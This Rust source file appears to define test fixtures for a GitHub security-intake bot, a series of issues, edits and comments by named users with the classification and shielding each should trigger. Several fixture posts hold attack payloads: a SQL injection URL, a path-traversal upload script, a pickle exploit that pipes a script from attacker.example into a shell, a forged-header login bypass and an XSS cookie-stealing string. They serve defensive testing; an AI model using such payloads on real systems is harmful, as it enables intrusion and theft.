//! The story that the rehearsal plays: what people post, and what must come of it.

use crate::domain::intake::{IntakeClass, texts::PublicText};

/// The public repository of the story.
pub(super) const REPOSITORY: &str = "acme/framework";

/// Its policy, as it stands in `.github/embargod.yml`.
pub(super) const POLICY: &str = "\
extends: django-2026
redirect:
  mode: shield
contact:
  private_reporting: true
  email: security@acme.example
";

/// A maintainer of the repository.
pub(super) const MAINTAINER: &str = "cora";

/// Everybody else who turns up.
pub(super) const OUTSIDERS: [&str; 9] = ["rae", "mallory", "zoe", "sam", "ivo", "lin", "finn", "ada", "tom"];

/// What somebody does.
pub(super) enum Act {
    /// Opens an issue.
    Issue { by: &'static str, title: &'static str, body: &'static str },
    /// Opens a pull request.
    Pull { by: &'static str, title: &'static str, body: &'static str },
    /// Edits the issue of an earlier scene, counted from 0.
    Edit { scene: usize, by: &'static str, title: &'static str, body: &'static str },
    /// Comments under the issue of an earlier scene, counted from 0.
    Comment { scene: usize, by: &'static str, body: &'static str },
    /// Nobody does anything, but GitHub delivers an earlier scene's webhook so many times more.
    DeliverAgain { scene: usize, times: usize },
}

/// What must come of it.
pub(super) struct Demand {
    /// The class of the post.
    pub class: IntakeClass,
    /// Whether its words are replaced.
    pub moved: bool,
    /// Whether its thread ends up closed and locked.
    pub closed_and_locked: bool,
    /// The one constant comment, if one is said.
    pub says: Option<PublicText>,
    /// Whether a private case opens.
    pub case: bool,
}

/// One post of the story.
pub(super) struct Scene {
    /// Its name in the transcript.
    pub name: &'static str,
    /// What happens.
    pub act: Act,
    /// What must come of it.
    pub demand: Demand,
}

const NOTHING: Demand =
    Demand { class: IntakeClass::Ordinary, moved: false, closed_and_locked: false, says: None, case: false };

const SHIELDED: Demand = Demand {
    class: IntakeClass::Disclosure,
    moved: true,
    closed_and_locked: true,
    says: Some(PublicText::ThreadMoved),
    case: true,
};

/// The story, in order.
pub(super) fn scenes() -> Vec<Scene> {
    vec![
        Scene {
            name: "an issue with exploit steps",
            act: Act::Issue {
                by: "rae",
                title: "SQL injection in the order_by parameter of the reports endpoint",
                body: "The `order_by` query parameter is put into the SQL statement without escaping, so anybody who is not \
                       logged in can read the whole user table.\n\nSteps to reproduce:\n\n1. Start the demo project.\n2. Run\n\n\
                       ```sh\ncurl 'http://localhost:8000/reports?order_by=id%20UNION%20SELECT%20password%20FROM%20auth_user--'\n```\n\n\
                       3. The answer holds the password hashes of all users.\n\nAffected: 5.1 and 5.2. An attacker needs no \
                       account for this.",
            },
            demand: SHIELDED,
        },
        Scene {
            name: "a bland title over a PoC",
            act: Act::Issue {
                by: "mallory",
                title: "Question about file uploads",
                body: "While playing with uploads I noticed that the file name is joined to the media folder as it comes. With \
                       the script below I can overwrite any file that the web server may write, settings.py among them, and \
                       so run my own code on the server (path traversal to remote code execution).\n\n```python\nimport requests\n\n\
                       payload = {'file': ('../../app/settings.py', 'import os; os.system(\"id > /tmp/pwned\")')}\n\
                       requests.post('http://victim.example/upload', files=payload)\n```\n\nProof of concept works on a \
                       default install.",
            },
            demand: SHIELDED,
        },
        Scene {
            name: "somebody asks for a private contact",
            act: Act::Issue {
                by: "zoe",
                title: "Security contact?",
                body: "Hello, I believe I found a security vulnerability in the framework and would like to report it \
                       privately. Is there a security contact or an email address where I can send the details? I do not \
                       want to post them in public.",
            },
            demand: Demand {
                class: IntakeClass::AsksChannel,
                moved: false,
                closed_and_locked: false,
                says: Some(PublicText::ChannelAsked),
                case: false,
            },
        },
        Scene {
            name: "a scanner's report about a dependency's public CVE",
            act: Act::Issue {
                by: "sam",
                title: "Trivy reports CVE-2023-45288 in golang.org/x/net",
                body: "Our container scan with Trivy flags a known vulnerability in a dependency. Please bump the version.\n\n\
                       | Library | Vulnerability | Severity | Installed Version | Fixed Version |\n|---|---|---|---|---|\n\
                       | golang.org/x/net | CVE-2023-45288 | HIGH | 0.17.0 | 0.23.0 |\n\nSee https://nvd.nist.gov/vuln/detail/CVE-2023-45288. \
                       Upgrading the dependency to 0.23.0 fixes it.",
            },
            demand: Demand { class: IntakeClass::KnownPublic, ..NOTHING },
        },
        Scene {
            name: "a hardening wish",
            act: Act::Issue {
                by: "ivo",
                title: "Feature request: add rate limiting to the login view",
                body: "It would be nice to have optional rate limiting and support for two-factor authentication in the \
                       default login view, as defence in depth. Other frameworks ship a setting for it. I would also suggest \
                       to set a Content-Security-Policy header by default as a best practice.",
            },
            demand: Demand { class: IntakeClass::Hardening, ..NOTHING },
        },
        Scene {
            name: "an ordinary bug full of security words",
            act: Act::Issue {
                by: "lin",
                title: "Login page layout broken when the password reset link wraps",
                body: "After upgrading, the password reset link on the login form wraps to a second line in Firefox and the \
                       submit button overlaps the token field. The authentication test suite also fails once in a while with \
                       `AssertionError: 302 != 200` because the session cookie test depends on the order of tests.\n\nExpected: \
                       the form looks as before.",
            },
            demand: NOTHING,
        },
        Scene {
            name: "a public pull request that fixes a hole",
            act: Act::Pull {
                by: "finn",
                title: "Escape user-controlled names on the profile page",
                body: "The display name is rendered with the safe filter, so any user can store a script in it that runs in the \
                       browser of every visitor, administrators included (stored XSS). An attacker can steal session cookies \
                       this way. This escapes the name and adds a test with `<script>alert(document.cookie)</script>`.",
            },
            demand: Demand {
                class: IntakeClass::Disclosure,
                moved: false,
                closed_and_locked: false,
                says: None,
                case: true,
            },
        },
        Scene {
            name: "a maintainer's own security ticket",
            act: Act::Issue {
                by: MAINTAINER,
                title: "Password reset tokens can be reused: account takeover",
                body: "A password reset token stays valid after it was used, so an attacker who gets hold of an old mail can \
                       take over the account. To reproduce: request a reset, use the link, then open the same link again and \
                       set another password. This authentication bypass is exploitable on all supported versions.",
            },
            demand: Demand {
                class: IntakeClass::Disclosure,
                moved: false,
                closed_and_locked: false,
                says: None,
                case: true,
            },
        },
        Scene {
            name: "a harmless issue",
            act: Act::Issue {
                by: "ada",
                title: "Documentation of the cache settings is hard to follow",
                body: "The page about cache settings mentions the timeout twice, with different defaults. Which one is right?",
            },
            demand: NOTHING,
        },
        Scene {
            name: "an edit that adds a PoC to it",
            act: Act::Edit {
                scene: 8,
                by: "ada",
                title: "Documentation of the cache settings is hard to follow",
                body: "The page about cache settings mentions the timeout twice, with different defaults. Which one is right?\n\n\
                       Edit: it is worse than the documentation. Cached objects are unpickled without a check, so whoever can \
                       write to the cache key executes arbitrary code on the server (unsafe deserialization, remote code \
                       execution). Exploit:\n\n```python\nimport pickle, os\n\nclass Exploit:\n    def __reduce__(self):\n        \
                       return os.system, ('curl http://attacker.example/shell.sh | sh',)\n\ncache.set('k', pickle.dumps(Exploit()))\n```\n\n\
                       An unauthenticated attacker can reach this through the session cookie.",
            },
            demand: SHIELDED,
        },
        Scene {
            name: "a comment that discloses under an old issue",
            act: Act::Comment {
                scene: 5,
                by: "tom",
                body: "By the way, I found an authentication bypass vulnerability in the same form: the server trusts the header \
                       `X-Forwarded-User` from anybody, so an unauthenticated attacker can log in as the administrator \
                       without any password. Proof of concept:\n\n```sh\ncurl -H 'X-Forwarded-User: admin' -d 'password=' \
                       http://target/login\n```\n\nThis allows an account takeover of every user; it works remotely with \
                       the default settings of version 2.3.1.",
            },
            demand: Demand {
                class: IntakeClass::Disclosure,
                moved: true,
                closed_and_locked: false,
                says: Some(PublicText::CommentMoved),
                case: true,
            },
        },
        Scene {
            name: "the same delivery three times more",
            act: Act::DeliverAgain { scene: 0, times: 3 },
            demand: Demand { class: IntakeClass::Disclosure, ..NOTHING },
        },
    ]
}
